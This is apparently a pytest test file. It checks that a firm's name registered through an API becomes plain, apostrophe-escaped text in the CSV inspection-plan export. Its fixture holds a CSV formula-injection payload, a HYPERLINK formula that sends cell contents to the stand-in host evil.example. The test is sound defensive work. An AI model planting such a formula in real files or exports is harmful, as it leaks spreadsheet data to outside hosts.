"""CSV files served by the API: a firm's name never becomes a live spreadsheet formula."""

from __future__ import annotations

import csv
import io

from tests.conftest import Builder

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"演示")'


def test_a_formula_in_a_firm_name_is_plain_text_in_the_inspection_plan(client, make: Builder):
    headers = make.headers("regulator", region="3211")
    code = make.uscc("321102")
    registered = client.post(
        "/api/v1/enterprises", headers=headers, json={"uscc": code, "name": EVIL_NAME}
    )
    assert registered.status_code == 201, registered.get_json()
    response = client.get(
        "/api/v1/inspection-plan",
        headers={**headers, "Accept": "text/csv"},
        query_string={"region": "321102", "date": "2026-01-05", "seed": 7},
    )
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and response.mimetype_params["charset"] == "utf-8"
    assert response.data.startswith(b"\xef\xbb\xbfrisk_class,")
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
    # One firm of class B: a sample of 15 % of one is one.
    assert [(r["uscc"], r["name"]) for r in rows] == [(code, "'" + EVIL_NAME)]
